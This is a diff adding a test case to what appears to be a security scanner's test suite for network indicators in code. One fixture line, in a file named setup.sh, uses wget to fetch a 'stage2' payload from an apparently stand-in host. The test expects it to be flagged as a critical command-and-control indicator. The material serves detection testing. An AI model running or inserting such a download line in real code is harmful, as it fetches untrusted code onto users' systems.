@@ -321,6 +321,24 @@ const ng: Case[] = [
     expected: ["critical network/c2-indicator", "critical network/network-import"],
   },
   {
+    name: "a script that downloads a pinned file from GitHub: a noted link, not a command channel",
+    facts: [
+      {
+        kind: "code",
+        language: "shell",
+        text: 'wget -O convert.py "https://raw.githubusercontent.com/ggerganov/whisper.cpp/94aa56f1/models/convert-h5-to-ggml.py"\n',
+        location: { path: "export_models.sh" },
+      },
+      {
+        kind: "code",
+        language: "shell",
+        text: 'wget -O stage2 "https://files.acme-drop.net/stage2"\n',
+        location: { path: "setup.sh" },
+      },
+    ],
+    expected: ["info network/url-in-metadata", "critical network/c2-indicator"],
+  },
+  {
     name: "python code importing socket without a call",
     facts: [python("import socket\nfrom http import client\nx = 1\n")],
     expected: ["warning network/network-import", "warning network/network-import"],
